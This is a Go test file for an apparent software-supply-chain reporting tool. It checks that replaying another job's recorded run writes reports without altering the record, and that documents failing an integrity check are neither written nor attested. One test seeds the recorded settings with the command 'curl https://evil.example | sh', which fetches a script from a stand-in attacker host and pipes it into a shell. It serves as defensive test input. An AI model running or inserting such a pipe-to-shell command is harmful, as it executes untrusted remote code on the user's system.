package run

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vexxy/action/internal/fault"
	"github.com/vexxy/action/internal/gate"
	"github.com/vexxy/action/internal/record"
	"github.com/vexxy/action/internal/report"
)

func recorded(t *testing.T) record.Record {
	t.Helper()
	rec, err := record.Read("../../testdata/runs/go-app")
	if err != nil {
		t.Fatal(err)
	}
	return rec
}

// later is a plan for records of another job.
func later(t *testing.T) Plan {
	p := plan(t, &engine{})
	p.Engine, p.Resolve = nil, nil
	p.Settings = map[string]string{"max-db-age": "0s", "fail-on": "all"}
	return p
}

// What another job observed comes to the documents of a run, but for the record,
// which stays where it is, and for the command to repeat it with.
func TestAgain(t *testing.T) {
	p := later(t)
	rec := recorded(t)
	rec.Run.Settings["test-command"] = "curl https://evil.example | sh"
	rec.Raw = map[string][]byte{record.RawBaseline: []byte("{}")}
	var checked Documents
	out, err := Again(t.Context(), p, []Observed{{Record: rec, Check: func(d Documents) error { checked = d; return nil }}})
	if err != nil || out.Verdict != gate.VerdictInconclusive && out.Verdict != gate.VerdictPass || len(checked.Files) == 0 {
		t.Fatalf("%s, %v", out.Verdict, err)
	}
	for _, name := range []string{VEXFile, SummaryFile, ResultFile, CommentFile, SARIFFile} {
		text, err := os.ReadFile(filepath.Join(p.OutputDir, name))
		if err != nil || strings.Contains(string(text), "vexxy run ") {
			t.Errorf("%s: %v", name, err)
		}
	}
	if _, err := os.Stat(filepath.Join(p.OutputDir, "record")); err == nil {
		t.Error("the record was written")
	}
	if string(rec.Raw[record.RawBaseline]) != "{}" {
		t.Error("the record was changed")
	}
	if out.Images[0].Image.Change != nil {
		t.Error("the record's own baseline counts")
	}
}

// What a check refuses is neither written nor attested; the others go on.
func TestAgainRefuses(t *testing.T) {
	p := later(t)
	attested := 0
	p.Attester = attesting(func() { attested++ })
	one, two := recorded(t), recorded(t)
	one.Subject.Requested, two.Subject.Requested = "one", "two"
	no := fault.New(fault.Integrity, "", "it is forged")
	out, err := Again(t.Context(), p, []Observed{{Record: one, Check: func(Documents) error { return no }}, {Record: two}})
	if err != nil || out.Code != fault.Integrity || out.Verdict != gate.VerdictError || !errors.Is(out.Images[0].Err, no) || out.Images[1].Err != nil || attested != 1 {
		t.Errorf("%+v, %v, %d attested", out, err, attested)
	}
	if _, err := os.Stat(filepath.Join(p.OutputDir, "one", VEXFile)); err == nil {
		t.Error("a refused document was written")
	}
	if w := result(t, filepath.Join(p.OutputDir, "one")); w.Verdict != "error" || w.ExitCode != int(fault.Integrity) {
		t.Errorf("%+v", w)
	}
}

// attesting counts what is to be attested.
type attesting func()

func (a attesting) Attest(context.Context, Documents, string) (report.Attested, error) {
	a()
	return report.Attested{}, nil
}
